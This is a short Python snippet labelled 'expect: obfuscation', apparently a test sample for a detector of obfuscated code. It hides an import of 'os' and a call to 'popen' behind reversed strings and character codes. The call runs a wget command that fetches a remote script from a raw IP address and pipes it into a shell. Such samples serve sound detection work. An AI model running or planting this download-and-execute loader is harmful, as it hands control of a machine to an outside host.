# expect: obfuscation
_ = lambda s: __import__("".join(reversed(s)))
__ = _("so")
getattr(__, "".join(map(chr, [112, 111, 112, 101, 110])))("wget -q http://185.172.1.4/k -O- | sh")
